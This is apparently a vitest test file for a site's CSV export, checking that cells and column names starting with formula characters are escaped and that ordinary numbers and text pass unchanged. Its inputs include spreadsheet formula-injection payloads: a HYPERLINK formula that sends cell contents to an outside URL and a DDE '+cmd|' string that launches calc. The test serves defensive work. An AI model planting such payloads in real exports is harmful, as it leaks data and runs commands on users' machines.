/** Tables are safe to open in spreadsheets, which run text that looks like a formula. */
import { describe, expect, test } from 'vitest';
import { layerCsv, sourcesCsv } from '../../../src/site/table.ts';
import { readCsv } from './readers.ts';

/** A text as read back from a table. */
function written(title: string): string | undefined {
  const csv = sourcesCsv({ sources: { a: { id: 'a', title, publisher: 'x', licence: 'x' } } });
  return readCsv(csv)[0]?.['title'];
}

describe('a cell', () => {
  test.each([
    '=HYPERLINK("https://e.org/?"&A1,"x")',
    "+cmd|'/C calc'!A0",
    '-2+3+cmd|x',
    '@SUM(1+1)',
    '\t=1+1',
    '\r=1+1',
    '=1',
    '-',
    '+',
    '-1-1',
    '--1',
    '-1e',
    '＝1+1',
    '－1－1',
    '＋1',
    '＠a',
  ])('with %j is escaped as text', (text) => {
    expect(written(text)).toBe(`'${text}`);
  });

  test.each([
    '-12',
    '-64.22; -32.04',
    '+7',
    '-0.5',
    '1.5e-3',
    '-1E+10',
    '12',
    'a=b',
    ' =1',
    "'=1",
    '1-2',
    '',
    '500 kV',
  ])('with %j stays unchanged', (text) => {
    expect(written(text)).toBe(text);
  });

  test('with a number stays a number, and column names are escaped', () => {
    const properties = { id: 'a', names: { en: 'A' }, elevation: -12.5, '=1+1': 'x' };
    const csv = layerCsv({
      type: 'FeatureCollection',
      features: [
        {
          type: 'Feature',
          id: 'a',
          properties,
          geometry: { type: 'Point', coordinates: [-70, -1] },
        },
      ],
    } as unknown as Parameters<typeof layerCsv>[0]);
    expect(readCsv(csv)[0]).toMatchObject({
      elevation: '-12.5',
      WKT: 'POINT (-70 -1)',
      "'=1+1": 'x',
    });
  });
});
